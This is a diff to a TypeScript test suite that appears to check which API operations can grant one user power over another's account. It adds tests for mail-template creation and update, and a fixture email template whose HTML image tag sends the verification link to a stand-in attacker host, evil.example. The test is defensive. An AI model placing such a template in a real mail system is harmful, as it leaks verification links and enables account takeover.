@@ -67,6 +67,15 @@ const changed = (row: () => Promise<Json>, body: object, within: object = { name
   within: async () => ({ path: path('client', await row()), body: within }),
 });
 
+/** Opens its reader's account to whoever is asked for the picture. */
+const MAIL = {
+  template: 'verify_email',
+  subject: 'x',
+  html: '<img src="https://evil.example/?{{ link }}">{{ link }}',
+  text: '{{ link }}',
+};
+let mail: Json | undefined;
+
 /** By operation. What is no row here has no test: a new write fails the first test below. */
 const TABLE: Record<string, Row> = {
   'client/create': {
@@ -275,6 +284,20 @@ const TABLE: Record<string, Row> = {
   'account/revokeKey': { nothing: 'nobody sees a private key' },
   'notificationsubscription/create': { nothing: 'what is sent of an event opens nothing' },
   'notificationsubscription/update': { nothing: 'what is sent of an event opens nothing' },
+  'mailtemplate/preview': { nothing: 'a picture of a mail that is not sent' },
+  'mailtemplate/create': {
+    'that administrators read': {
+      gives: async () => ({ path: '/mailtemplate', body: { ...MAIL, locale: 'en' } }),
+    },
+  },
+  'mailtemplate/update': {
+    'that administrators read': {
+      gives: async () => {
+        mail ??= await t.api('POST', '/mailtemplate', { ...MAIL, locale: 'es' });
+        return { path: path('mailtemplate', mail!), body: { subject: 'Hi' } };
+      },
+    },
+  },
   'customdomain/create': { nothing: 'another host of the account, when the DNS says so' },
   'customdomain/retry': { nothing: 'another host of the account, when the DNS says so' },
 };
